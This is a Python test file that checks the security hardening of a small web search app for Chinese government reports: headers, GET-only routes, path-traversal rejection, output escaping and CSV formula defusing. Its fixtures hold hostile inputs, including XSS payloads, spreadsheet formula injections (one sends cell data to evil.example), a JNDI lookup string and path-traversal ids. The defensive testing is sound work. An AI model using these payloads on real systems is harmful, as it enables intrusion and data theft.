"""Web hardening: headers on every answer, nothing changes over GET, no admin door, ids never reach the disk.

* every response — pages, errors, JSON, exports, static files, redirects —
  carries the Content-Security-Policy (``frame-ancestors 'none'``),
  ``X-Content-Type-Options: nosniff`` and a ``Referrer-Policy``;
* every route answers GET/HEAD only: other methods get 405 and the index stays
  as it was; there is no admin, upload, reindex or debug endpoint;
* report and paragraph ids from URLs are checked before any lookup, and no
  crafted id makes the server open a file outside the index;
* text from reports and from the query is shown as text, never run: pages
  escape it, and a CSV cell that a spreadsheet would run as a formula is
  defused.
"""
import csv
import io
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from index.report import Region
from index.writer import IndexStore
from tests.conftest import ROOT, make_report

SECURITY_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "Referrer-Policy")
WRITE_METHODS = ("POST", "PUT", "DELETE", "PATCH")

# -- file-open audit: which paths does a request make the process open? ---------------

_opened: list[str] | None = None


def _audit(event, args):
    if event == "open" and _opened is not None and args and isinstance(args[0], (str, bytes)):
        _opened.append(args[0] if isinstance(args[0], str) else args[0].decode("utf-8", "replace"))


sys.addaudithook(_audit)  # audit hooks cannot be removed; this one only records while a test asks


@pytest.fixture
def opened_files():
    global _opened
    _opened = []
    yield _opened
    _opened = None


# -- an index with hostile text in it ---------------------------------------------------

BAZHOU = Region("county", "河北省", "廊坊市", "霸州市", "131081")
HOSTILE_TEXTS = [
    "坚持项目为王。<script>alert('xss')</script>",
    "优化营商环境<img src=x onerror=alert(1)>，深化放管服改革。",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+1+cmd|' /C calc'!A0 项目为王",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 项目为王 的公式",
    "推进“互联网+政务服务”，{{7*7}} 和 ${jndi:ldap://evil}。",
]


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory):
    root = tmp_path_factory.mktemp("security") / "index"
    with IndexStore(root).update() as up:
        up.add_report(make_report(HOSTILE_TEXTS, region=BAZHOU, source="hostile.txt"))
    (root.parent / "secret.txt").write_text("机密", encoding="utf-8")  # next to the index, never to be served
    return root


@pytest.fixture
def hclient(make_app, hostile_index):
    return make_app(hostile_index).test_client()


def _ids(client):
    rep = client.get("/api/reports").get_json()[0]
    pid = client.get(f"/api/reports/{quote(rep['report_id'])}").get_json()["paragraphs"][0]["paragraph_id"]
    return rep["report_id"], pid


# -- headers ----------------------------------------------------------------------------------


def test_every_kind_of_response_carries_the_security_headers(hclient):
    rid, pid = _ids(hclient)
    urls = {
        "/": 200, "/search?q=项目为王": 200, '/search?q="': 400, "/about": 200,
        f"/r/{quote(rid)}": 200, f"/r/{quote(rid)}?q=项目为王": 200, "/r/no-such-report": 404,
        f"/p/{pid}": 302, "/p/0123456789abcdef": 404, "/p/..%2F..%2Fetc%2Fpasswd": 404,
        "/api/search?q=项目为王": 200, "/api/search?q=year:abc": 400, "/api/reports": 200,
        f"/api/reports/{quote(rid)}": 200, "/api/reports/x": 404, "/api/stats": 200,
        "/search.csv?q=项目为王": 200, "/search.json?q=项目为王": 200,
        "/static/app.css": 200, "/static/../baogao.py": 404, "/no/such/page": 404,
    }
    for url, status in urls.items():
        r = hclient.get(url)
        assert r.status_code == status, url
        for h in SECURITY_HEADERS:
            assert r.headers.get(h), (url, h)
        csp = r.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in csp and "default-src 'none'" in csp
        assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp and "*" not in csp
        assert r.headers["X-Content-Type-Options"] == "nosniff"
        assert r.headers["Referrer-Policy"] in ("same-origin", "no-referrer", "strict-origin-when-cross-origin")
        r.close()


def test_a_method_not_allowed_answer_also_carries_the_headers(hclient):
    r = hclient.post("/api/search?q=项目为王")
    assert r.status_code == 405
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]


# -- no state changes over HTTP, no admin endpoints -----------------------------------------


def _concrete(rule: str, rid: str, pid: str) -> str:
    return (rule.replace("<path:filename>", "app.css").replace("<report_id>", quote(rid))
            .replace("<paragraph_id>", pid))


def test_every_route_answers_only_get_and_head(make_app, hostile_index):
    app = make_app(hostile_index)
    for rule in app.url_map.iter_rules():
        assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, (rule.rule, rule.methods)


def test_writing_methods_get_405_and_leave_the_index_as_it_was(make_app, hostile_index):
    app = make_app(hostile_index)
    client = app.test_client()
    rid, pid = _ids(client)
    before = (IndexStore(hostile_index).current_generation(), sorted(p.name for p in hostile_index.iterdir()))
    for rule in app.url_map.iter_rules():
        url = _concrete(rule.rule, rid, pid)
        for method in WRITE_METHODS:
            r = client.open(url, method=method, data={"q": "x", "path": "/tmp"})
            assert r.status_code == 405, (method, url)
            r.close()
    after = (IndexStore(hostile_index).current_generation(), sorted(p.name for p in hostile_index.iterdir()))
    assert after == before


def test_there_is_no_admin_upload_reindex_or_debug_endpoint(make_app, hostile_index):
    app = make_app(hostile_index)
    assert not app.debug
    words = ("admin", "upload", "reindex", "index/", "shutdown", "debug", "console", "delete", "config", "login", "exec")
    for rule in app.url_map.iter_rules():
        assert not any(w in rule.rule.lower() for w in words), rule.rule
    client = app.test_client()
    for url in ("/admin", "/console", "/api/index", "/api/reindex", "/debug", "/shutdown", "/.env", "/.git/config"):
        assert client.get(url).status_code == 404, url


def test_the_server_binds_to_localhost_by_default():
    import baogao

    args = baogao.build_parser().parse_args(["serve"])
    assert args.host == "127.0.0.1"


# -- ids from URLs ---------------------------------------------------------------------------

TRAVERSALS = [
    "..", "../..", "..%2F..%2Fsecret.txt", "%2e%2e%2f%2e%2e%2fsecret.txt", "..%5C..%5Csecret.txt",
    "%252e%252e%252fsecret.txt", "%00", "x%00.txt", "%2Fetc%2Fpasswd", "....//....//secret.txt", "~root",
    "CURRENT", ".lock", "gen-000001", "reports.json", "a" * 500, "%E2%80%AE", "%ED%A0%80", "%C0%AE%C0%AE",
]


@pytest.mark.parametrize("prefix", ["/r/", "/p/", "/api/reports/", "/static/"])
@pytest.mark.parametrize("ident", TRAVERSALS)
def test_crafted_ids_get_a_chinese_404_and_open_nothing_outside_the_index(hclient, hostile_index, opened_files,
                                                                          prefix, ident):
    r = hclient.get(prefix + ident)
    assert r.status_code in (404, 308), (prefix, ident, r.status_code)
    if r.status_code == 404 and prefix != "/static/":
        body = r.get_data(as_text=True)
        assert "索引中没有" in body or "找不到" in body or "不存在" in body
        assert "机密" not in body
    r.close()
    allowed = (str(hostile_index), str(ROOT / "web"), sys.prefix, sys.base_prefix, str(ROOT / "var"))
    for path in opened_files:
        p = str(Path(path).resolve()) if not path.startswith("/proc") else path
        assert "secret" not in p
        assert p.startswith(allowed) or p.startswith("/proc") or p.startswith("/dev"), p


def test_an_id_that_could_be_a_report_but_is_too_long_is_refused_before_lookup(hclient):
    r = hclient.get("/r/" + quote("2021-河北省-" + "很长" * 100))
    assert r.status_code == 404


# -- text is shown, never run ---------------------------------------------------------------


def test_script_in_report_text_and_in_the_query_is_escaped_everywhere(hclient):
    rid, _ = _ids(hclient)
    for url in ("/search?q=项目为王", f"/r/{quote(rid)}", f"/r/{quote(rid)}?q=项目为王",
                "/search?q=" + quote("<script>alert(1)</script>"), "/search?q=" + quote('"<img src=x onerror=alert(1)>'),
                "/r/" + quote("<script>"), "/search?province=" + quote("<script>alert(1)</script>")):
        body = hclient.get(url).get_data(as_text=True)
        assert "<script>alert" not in body and "<img src=x" not in body, url
    api = hclient.get("/api/search?q=项目为王").get_json()
    for h in api["hits"]:
        assert "<script>" not in h["snippet_html"] and "<img" not in h["snippet_html"]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(hclient):
    r = hclient.get("/search.csv?q=" + quote("HYPERLINK OR calc OR 项目为王 OR 公式"))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))))
    texts = {row["text"] for row in rows}
    assert texts, "the hostile paragraphs are found"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert any(t.startswith("'=HYPERLINK") for t in texts)
    # the JSON export keeps the text exactly
    j = hclient.get("/search.json?q=" + quote("HYPERLINK")).get_json()
    assert j["hits"][0]["text"] == HOSTILE_TEXTS[2]


def test_a_plain_number_is_no_formula_but_anything_else_starting_like_one_is_defused():
    from web.exports import csv_cell

    assert csv_cell("-0.5") == "-0.5" and csv_cell("+3") == "+3" and csv_cell("-1e3") == "-1e3"  # numbers stay numbers
    assert csv_cell("-1+2") == "'-1+2" and csv_cell("=1") == "'=1" and csv_cell("-") == "'-"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell(-2) == -2
